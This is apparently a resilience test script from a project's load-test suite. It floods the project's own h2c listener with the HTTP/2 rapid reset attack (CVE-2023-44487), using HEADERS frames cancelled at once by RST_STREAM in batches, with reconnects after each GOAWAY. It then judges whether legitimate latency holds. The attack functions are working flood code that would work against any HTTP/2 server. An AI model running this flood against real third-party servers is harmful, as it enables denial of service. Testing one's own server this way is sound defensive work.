#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against cartlink's h2c (prior knowledge) listener.

ATTACKERS connections, in their own lower-priority process, each open streams (HEADERS) and
cancel them at once (RST_STREAM CANCEL) as fast as they can, reconnecting after each GOAWAY, for
the whole attack phase. Legit traffic is measured by oha at a fixed rate (open loop, latency
corrected) over HTTP/1.1 and over h2c (`oha --http2`).

Phases: clean (each protocol), attack (each protocol), clean again (each protocol).
Verdict: PASS when every attacker connection got GOAWAY or was closed by the server (a
connection open at the end of the phase keeps attacking until that happens, at most 10 s more),
each protocol's p99 under attack <= 1.2 x its clean p99, and no legit request failed;
INCONCLUSIVE when the two clean runs disagree too much to decide (slowloris.judge()).
Needs Python h2 (`pip install h2`) and oha.

    python3 loadtest/h2_reset/h2_reset.py --addr 127.0.0.1:8080 --path /kit.SIG
"""
import argparse
import asyncio
import json
import os
import sys
import time

sys.dont_write_bytecode = True  # no __pycache__ left in the work tree
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "slowloris"))
from slowloris import attack_child, judge, need_oha, oha, show  # noqa: E402


async def attacker(host, port, path, end, out):
    """One connection: HEADERS + RST_STREAM(CANCEL) in batches of 50 until the server sends
    GOAWAY or closes, or until END + 10 s; appends (streams sent, how it ended)."""
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events

    r, w = await asyncio.open_connection(host, port)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    w.write(conn.data_to_send())
    sent, goaway = 0, None
    headers = [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", "x")]

    async def reader():
        nonlocal goaway
        while True:
            try:
                data = await r.read(65536)
            except (ConnectionError, OSError):
                goaway = goaway or "reset"
                return
            if not data:
                goaway = goaway or "closed"
                return
            try:
                events = conn.receive_data(data)
            except Exception:
                goaway = goaway or "protocol error"
                return
            for e in events:
                if isinstance(e, h2.events.ConnectionTerminated):
                    goaway = f"GOAWAY {h2.errors.ErrorCodes(e.error_code).name}"
            if goaway:
                return

    rt = asyncio.create_task(reader())
    try:
        while time.monotonic() < end + 10 and not goaway:
            for _ in range(50):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                sent += 1
            w.write(conn.data_to_send())
            await w.drain()
            await asyncio.sleep(0)
    except Exception:  # the socket or h2's state machine, once the server has ended it
        pass
    await asyncio.wait([rt], timeout=5)
    out.append((sent, goaway))
    rt.cancel()
    w.transport.abort()


async def attack(host, port, path, n, duration):
    out = []
    end = time.monotonic() + duration

    async def slot():
        # Reconnect after each GOAWAY for the whole phase, as a real attacker would.
        while time.monotonic() < end:
            await attacker(host, port, path, end, out)

    await asyncio.gather(*(slot() for _ in range(n)))
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", default="127.0.0.1:8080")
    ap.add_argument("--path", required=True)
    ap.add_argument("--attackers", type=int, default=10, help="attacker connections at a time")
    ap.add_argument("--duration", type=float, default=15, help="seconds per measured phase")
    ap.add_argument("--rate", type=int, default=1000, help="legit requests per second (oha -q)")
    ap.add_argument("--conns", type=int, default=8, help="legit connections (oha -c)")
    ap.add_argument("--no-h2", action="store_true", help="measure legit traffic over HTTP/1.1 only")
    ap.add_argument("--attack-only", action="store_true", help=argparse.SUPPRESS)
    a = ap.parse_args()
    host, port = a.addr.rsplit(":", 1)
    port = int(port)
    if a.attack_only:
        print(json.dumps(asyncio.run(attack(host, port, a.path, a.attackers, a.duration))))
        return 0

    need_oha()
    protos = [("http1", False)] + ([] if a.no_h2 else [("h2c", True)])

    def measure(phase):
        runs = {}
        for name, h2 in protos:
            runs[name] = oha(a.addr, a.path, a.rate, a.duration, a.conns, http2=h2)
            print(show(f"{phase} {name:5}", runs[name]), flush=True)
        return runs

    clean = measure("clean  ")
    # The attack covers every measured run, with 2 s on each side.
    span = len(protos) * a.duration + 4
    child = attack_child([__file__, "--attack-only", *sys.argv[1:], "--duration", str(span)])
    time.sleep(2)
    under = measure("attack ")
    out = json.loads(child.communicate()[0].strip().splitlines()[-1])
    clean2 = measure("clean 2")

    conns = len(out)
    kinds = {}
    for _, g in out:
        kinds[str(g)] = kinds.get(str(g), 0) + 1
    stopped = sum(v for k, v in kinds.items() if k != "None")
    resets = sum(s for s, _ in out)
    print(f"attacker connections: {conns}, stopped by the server: {stopped} {kinds}, "
          f"streams opened+reset: {resets} ({resets / max(conns, 1):.0f} per connection, "
          f"{resets / span:.0f}/s)")
    verdicts = {name: judge(clean[name], under[name], clean2[name]) for name, _ in protos}
    errors = sum(r["errors"] for runs in (clean, under, clean2) for r in runs.values())
    words = {w for w, _ in verdicts.values()}
    word = "FAIL" if "FAIL" in words or errors or conns == 0 or stopped < conns else \
        "INCONCLUSIVE" if "INCONCLUSIVE" in words else "PASS"
    print("VERDICT:", word, "(" + "; ".join(f"{n} {t}" for n, (_, t) in verdicts.items()) +
          f"; legit errors {errors}; attacker connections not stopped: {conns - stopped}/{conns})")
    return {"PASS": 0, "FAIL": 1, "INCONCLUSIVE": 3}[word]


if __name__ == "__main__":
    sys.exit(main())
